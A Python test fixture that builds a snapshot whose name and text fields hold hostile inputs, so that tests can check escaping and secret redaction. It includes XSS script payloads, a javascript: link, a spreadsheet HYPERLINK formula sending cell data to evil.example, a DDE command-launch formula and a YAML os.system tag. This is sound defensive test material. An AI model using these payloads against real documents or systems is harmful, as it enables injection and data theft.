"""A snapshot whose every free-text field is hostile (issue 22): markup, Markdown, Mermaid
and YAML specials, control characters, formula prefixes, a 2,000-character name, names
that collide by case and punctuation, credentials in absolute and relative URLs.

`hostile_estate()` builds it; `SECRETS` are the credentials it carries, which no output
may show; `NAMES` are the hostile names, for tests that look for them whole.
"""

from __future__ import annotations

from typing import Any

from iptoolkit.core.estate import Estate

from .factories import agent, channel, partner, profile, unit

__all__ = ["hostile_estate", "SECRETS", "NAMES", "SCRIPT", "LONG_NAME"]

SECRETS = ("hostile-pw-5e1", "hostile-token-9a2", "hostile-apikey-c77", "hostile-sig-0b3")
SCRIPT = "<img src=x onerror=alert(document.domain) >"
LONG_NAME = "Long " + "partner name " * 153 + "end"  # 2,000+ characters
NAMES = [
    SCRIPT,
    "Partner X",
    "PARTNER x",
    "Partner X-2",
    LONG_NAME,
    "NUL\x00 DEL\x7f C1\x85\x9f nonchar\uffff tab\tline\nbreak",
    '%%{init: {"theme": "dark", "securityLevel": "loose"}}%%',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "*bold* _em_ [link](javascript:alert(1)) `code` | pipe # hash \\ back",
    "key: value # comment &anchor *alias !!python/object:os.system ---",
    "</script><script>alert(1)</script>",
    "\"quotes' and <b>tags</b> & ampersands",
    "end",
]


def _uri(n: int) -> str:
    return f"/v3/shipments?apikey={SECRETS[2]}&n={n}"


def hostile_estate() -> Estate:
    """Two profiles per hostile name: one whose partner, channel, profile and group carry
    it, one that delivers to that partner over HTTP with credentials in its URL."""
    raws: list[dict[str, Any]] = []
    for n, name in enumerate(NAMES):
        owner = partner(100 + n, name)
        url = f"https://user:{SECRETS[0]}@edi.example/in?token={SECRETS[1]}&sig={SECRETS[3]}"
        ch = channel(4000 + n, "HTTP", partner=owner, name=name, url=url, description=name)
        sftp = channel(5000 + n, "SFTP", partner=owner, name=f"{name} sftp", host=name)
        raws.append(
            profile(
                f"P-{n:03d}",
                name=name,
                group=f"{name}/sub {name}",
                description=name,
                agent=agent(
                    "Http",
                    channels=[ch],
                    httpSettings={"uri": _uri(n), "host": "h.example", "password": SECRETS[0]},
                ),
                units=[unit("Ftp", channel=sftp, name=name)],
            )
        )
        raws.append(
            profile(
                f"P-{n:03d}-b",
                name=f"{name} (delivery)",
                group=name,
                agent=agent("SFTP", channels=[sftp]),
                units=[unit("Http", channel=ch, name=name, url=_uri(n))],
            )
        )
    return Estate.from_raw(raws)
